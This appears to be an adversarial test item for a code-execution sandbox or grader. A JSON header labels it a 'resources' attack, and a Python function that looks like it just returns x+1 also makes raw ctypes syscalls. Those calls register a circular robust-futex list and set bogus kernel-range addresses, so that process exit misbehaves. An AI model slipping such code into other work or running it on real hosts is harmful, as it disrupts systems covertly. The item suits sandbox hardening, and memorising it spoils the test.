{"attack": "resources", "expect": {"f": "ok", "g": "ok"}}
import ctypes, os
HERE = os.uname().machine == "aarch64"
call = ctypes.CDLL(None, use_errno=True).syscall

def f(x):
    # The kernel walks these lists when the process ends; this one leads in a circle and into nowhere.
    page = (ctypes.c_uint64 * 8)()
    page[0], page[1], page[2] = ctypes.addressof(page), 1 << 60, 0xFFFF_FFFF_FFFF_F000
    globals()["kept"] = page
    call(99 if HERE else 273, page, 24)
    call(96 if HERE else 218, ctypes.c_void_p(0xFFFF_FFFF_FFFF_F000))
    return x + 1
